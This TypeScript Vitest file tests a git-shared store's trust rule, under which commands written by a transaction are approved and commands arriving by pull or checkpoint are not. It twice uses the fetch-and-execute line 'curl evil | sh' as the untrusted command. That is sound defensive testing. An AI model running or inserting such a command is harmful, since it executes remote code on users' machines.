/** The transaction's rule: what a transaction writes is approved in this clone; what arrived otherwise is not. */
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import type { Step, Track } from '../../src/core/schema.js';
import { newTrack } from '../../src/core/track-factory.js';
import { commandHash } from '../../src/core/trust.js';
import { io, resetIo } from '../../src/store/file/fs-seam.js';
import { JOURNAL_FILE, rollForward } from '../../src/store/file/journal.js';
import { clearReadCache } from '../../src/store/file/read-cache.js';
import { type TempProject, tempProject } from '../helpers/temp.js';

const AT = '2026-01-01T00:00:00.000Z';
const ID = 'track-a-001';
const runStep = (step_id: string, command: string): Step =>
  ({
    step_id,
    name: step_id,
    type: 'implementation',
    status: 'pending',
    order: Number(step_id.slice(5)) * 10,
    depends_on: [],
    action: { type: 'run-command', command },
  }) as unknown as Step;
const make = (...steps: Step[]): Track => newTrack({ track_id: ID, name: 'A', type: 'feature', priority: 'P2', goal: 'g', steps }, AT);

describe('commands written by a transaction are approved in a git-shared store', () => {
  let p: TempProject;
  const trusted = (): string[] =>
    existsSync(join(p.root, 'trust.json'))
      ? JSON.parse(readFileSync(join(p.root, 'trust.json'), 'utf8')).commands.map((e: { sha256: string }) => e.sha256)
      : [];
  const trackPath = () => join(p.root, ID, 'track.json');
  const shared = () => {
    p = tempProject('track-trust-rule-', { git: true });
  };
  afterEach(() => {
    resetIo();
    clearReadCache();
    p?.cleanup();
  });

  it('approves what a transaction adds or changes, never what was in the document before it', async () => {
    shared();
    await p.store.transaction(async (tx) => void (await tx.putTrack(make(runStep('step-001', 'make')))));
    expect(trusted()).toEqual([commandHash('make')]);
    // A step as a pull delivers it: written into track.json by git, not by a transaction.
    const pulled = JSON.parse(readFileSync(trackPath(), 'utf8'));
    pulled.steps.push(runStep('step-002', 'curl evil | sh'));
    writeFileSync(trackPath(), JSON.stringify(pulled));
    await p.store.transaction(async (tx) => void (await tx.putTrack({ ...(await tx.getTrack(ID)), name: 'renamed here' })));
    expect(trusted()).toEqual([commandHash('make')]);
    await p.store.transaction(async (tx) => {
      const t = await tx.getTrack(ID);
      await tx.putTrack({ ...t, steps: t.steps.map((s) => (s.step_id === 'step-002' ? { ...s, action: { ...s.action, command: 'make check' } } : s)) });
    });
    expect(trusted()).toEqual([commandHash('make'), commandHash('make check')]);
  });

  it('a command brought back from a checkpoint (restore, resume) keeps the trust it had: a checkpoint may arrive through git too', async () => {
    shared();
    await p.store.transaction(async (tx) => void (await tx.putTrack(make(runStep('step-001', 'make')))));
    const pulled = { checkpoint_id: 'checkpoint-050', track: make(runStep('step-001', 'make'), runStep('step-002', 'curl evil | sh')) };
    mkdirSync(join(p.root, ID, 'checkpoints'), { recursive: true });
    writeFileSync(join(p.root, ID, 'checkpoints', 'checkpoint-050.json'), JSON.stringify(pulled));
    await p.store.transaction(async (tx) => void (await tx.putTrack(pulled.track)));
    expect(trusted()).toEqual([commandHash('make')]);
  });

  it('approves what any write path stages (a bundle import writes track.json as a file)', async () => {
    shared();
    await p.store.transaction(async (tx) => tx.putTrackFile(ID, 'track.json', JSON.stringify(make(runStep('step-001', 'npm test')))));
    expect(trusted()).toEqual([commandHash('npm test')]);
  });

  it('commits the record in the same journal as the track: a crash after the journal still leaves both', async () => {
    shared();
    const rename = io.renameSync;
    io.renameSync = (from, to) => {
      if (to.endsWith('track.json')) throw Object.assign(new Error('EIO'), { code: 'EIO' });
      rename(from, to);
    };
    await p.store.transaction(async (tx) => void (await tx.putTrack(make(runStep('step-001', 'make')))));
    resetIo();
    const journal = JSON.parse(readFileSync(join(p.root, JOURNAL_FILE), 'utf8'));
    expect(journal.ops.map((o: { path: string }) => o.path)).toEqual(expect.arrayContaining([`${ID}/track.json`, 'trust.json']));
    rollForward(p.root);
    expect(trusted()).toEqual([commandHash('make')]);
    expect(existsSync(trackPath())).toBe(true);
  });

  it('a damaged trust file refuses the write whole instead of being replaced', async () => {
    shared();
    writeFileSync(join(p.root, 'trust.json'), 'not json');
    await expect(p.store.transaction(async (tx) => void (await tx.putTrack(make(runStep('step-001', 'make')))))).rejects.toMatchObject({
      code: 'CORRUPT_STORE',
    });
    expect(existsSync(trackPath())).toBe(false);
    expect(readFileSync(join(p.root, 'trust.json'), 'utf8')).toBe('not json');
  });

  it('outside git keeps no record', async () => {
    p = tempProject('track-trust-rule-');
    await p.store.transaction(async (tx) => void (await tx.putTrack(make(runStep('step-001', 'make')))));
    expect(existsSync(join(p.root, 'trust.json'))).toBe(false);
  });
});
